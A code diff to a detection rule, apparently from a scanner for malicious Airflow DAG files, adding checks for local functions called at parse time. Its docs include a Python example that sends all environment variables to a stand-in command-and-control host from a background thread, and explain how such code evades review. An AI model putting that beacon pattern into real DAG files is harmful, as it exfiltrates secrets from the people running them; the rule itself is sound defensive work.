@@ -1,6 +1,7 @@
 import { callArgs, unwrap } from '../../src/engine/python';
 import { defineRule } from '../../src/engine/rule';
 import { factsOf } from './_facts';
+import { localCallsAtParseTime } from './_local-calls';
 
 /** Calls that run a function later but start (or register) it while the file is imported. */
 const STARTERS: ReadonlyMap<string, string> = new Map([
@@ -22,9 +23,12 @@ export default defineRule({
     category: 'malicious',
     severity: 'medium',
     message: 'starts {what} running `{fn}` while the DAG file is parsed{reach}',
+    messages: {
+      local: '{how} `{fn}` while the DAG file is parsed, and its body {does} (`{via}`)',
+    },
     docs: {
       what:
-        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`. *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body).',
+        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`. *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body). Also, *high*: a function of the file run at parse time by a plain module-level call (`_setup()`), as a decorator (`@deco`, `@deco(…)`), as a default value (`def f(x=_helper())`) or as a `@dag` function called to build the DAG, whose body — or a local function it calls, three levels deep — reaches the network, starts a process or runs code. `@task`-decorated functions are not followed: calling them at parse time does not run their body.',
       why:
         'Parse-time rules look at module-level code because function bodies do not run at import — unless the module starts them: a thread keeps running in the dag-processor after the import returns, an exit handler runs when the processor recycles, a signal handler or trace hook runs inside Airflow\'s own code. It is how a malicious DAG file defers its payload past a naive review.',
       example: '```python\nimport threading, requests, os\ndef _beacon():\n    requests.post("https://c2.example", data=dict(os.environ))\nthreading.Thread(target=_beacon, daemon=True).start()\n```',
@@ -32,6 +36,13 @@ export default defineRule({
     },
   },
   calls: [...STARTERS.keys()],
+  onFile(ctx) {
+    for (const l of localCallsAtParseTime(ctx)) {
+      const k = l.reach.kinds;
+      const does = k.has('network') ? 'reaches the network' : k.has('spawn') ? 'starts a process' : 'runs code';
+      ctx.report(l.site, { how: l.how === 'decorator' ? 'runs the decorator' : 'calls', fn: l.name, does, via: l.reach.fn ?? l.reach.call.text.slice(0, 40) }, { message: 'local', severity: 'high', parseTime: false });
+    }
+  },
   onCall(call, fn, ctx) {
     if (!ctx.isParseTime(call)) return;
     const args = callArgs(call);
